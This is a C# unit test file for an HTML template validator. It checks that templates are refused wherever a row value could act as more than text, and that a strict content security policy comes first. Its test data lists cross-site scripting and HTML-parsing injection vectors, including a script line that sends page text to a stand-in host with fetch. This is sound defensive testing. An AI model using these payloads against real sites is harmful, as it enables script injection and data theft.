using TapModule.Core.Errors;
using TapModule.Core.Handover.Slips;

namespace TapModule.Core.Tests.Handover;

/// <summary>What a row says can only be text, wherever a template puts it, and no template runs or loads anything.</summary>
public sealed class SlipTemplateTests : IDisposable
{
    private const string Policy = "default-src 'none'";

    private readonly string _path = Path.GetTempFileName();

    public void Dispose() => File.Delete(_path);

    [Theory]
    [InlineData("<a href=\"{{Column:Link}}\">x</a>")]
    [InlineData("<a href='{{Column:Link}}'>x</a>")]
    [InlineData("<a href={{Column:Link}}>x</a>")]
    [InlineData("<a title=\">\" href=\"{{DisplayName}}\">x</a>")]
    [InlineData("<a title='\"' rel='>' href='{{CodePlain}}'>x</a>")]
    [InlineData("<a x=a\"><a title='\"' z='>' href='{{CodePlain}}'>x</a>")]
    [InlineData("<img src=\"https://x.example/?{{CodePlain}}\">")]
    [InlineData("<p style=\"background: url({{CodePlain}})\">x</p>")]
    [InlineData("<p onclick=\"f('{{Column:x}}')\">x</p>")]
    [InlineData("<style>p { background: url(https://x.example/{{CodePlain}}) }</style>")]
    [InlineData("<style>/* <a b=\" */</style><a href=\"{{CodePlain}}\">x</a>")]
    [InlineData("<title><a b='</title><a href=\"'>{{CodePlain}}\">x</a>")]
    [InlineData("<!-- {{CodePlain}} -->")]
    [InlineData("<!-- --!><a href=\"{{CodePlain}} -->\">x</a>")]
    [InlineData("<!--><a href=\"{{CodePlain}}\">-->x</a>")]
    [InlineData("<script>f(\"{{Column:x}}\")</script>")]
    [InlineData("<script>fetch('https://x.example/' + document.body.textContent)</script>")]
    [InlineData("<SCRIPT src=x></SCRIPT>")]
    [InlineData("<iframe srcdoc=\"x\"></iframe>")]
    [InlineData("<base href=\"https://x.example/\">")]
    [InlineData("<svg><![CDATA[<a href=\"{{CodePlain}}\">]]></svg>")]
    [InlineData("<a href=\"{{CodePlain}}")]
    [InlineData("1 < 2 {{CodePlain}}")]
    public void A_template_that_could_make_more_than_text_of_a_row_is_refused(string page)
    {
        var failure = Assert.Throws<TapServiceException>(() => Parse($"<!DOCTYPE html><html><head></head><body><!-- slip -->{page}<!-- /slip --></body></html>"));
        Assert.Equal(TapErrorId.TemplateUnusable, failure.Error.Reason);
    }

    [Theory]
    [InlineData("<p>{{Column:Link}}</p>")]
    [InlineData("<p title=\"a > b\">{{CodePlain}}</p>")]
    [InlineData("<section class=\"slip {{CodeSize}}\" lang={{Language}}>{{Code}}</section>")]
    [InlineData("<a href=\"{{Url}}\" title='{{Text:title}}'>{{DisplayName}}</a>")]
    [InlineData("<p hidden>a &lt; b = {{CodePlain}}</p><!-- a remark --><br/>")]
    public void Where_it_stays_text_a_place_may_stand(string page) => Assert.NotNull(Parse($"<!-- slip -->{page}<!-- /slip -->"));

    [Theory]
    [InlineData("<!DOCTYPE html>\n<html lang=\"{{Language}}\">\n<head>\n<title>x</title></head><body><!-- slip -->x<!-- /slip --></body></html>")]
    [InlineData("<img src=\"https://x.example\"><head></head><!-- slip -->x<!-- /slip -->")]
    [InlineData("<!-- slip -->x<!-- /slip -->")]
    public void The_policy_stands_before_everything_that_a_browser_could_load(string html)
    {
        var template = Parse(html);
        var whole = template.Head(_ => "") + template.Page(_ => "");
        var policy = whole.IndexOf(Policy, StringComparison.Ordinal);
        Assert.True(policy > 0);
        Assert.DoesNotContain("x.example", whole[..policy], StringComparison.Ordinal);
        Assert.DoesNotContain("<title", whole[..policy], StringComparison.Ordinal);
    }

    [Fact]
    public void The_template_that_comes_with_the_module_is_under_the_policy_too()
    {
        var head = SlipTemplate.Shipped().Head(_ => "");
        Assert.Contains(Policy, head, StringComparison.Ordinal);
        Assert.True(head.IndexOf(Policy, StringComparison.Ordinal) < head.IndexOf("<style", StringComparison.Ordinal));
    }

    private SlipTemplate Parse(string html)
    {
        File.WriteAllText(_path, html);
        return SlipTemplate.FromFile(_path);
    }
}
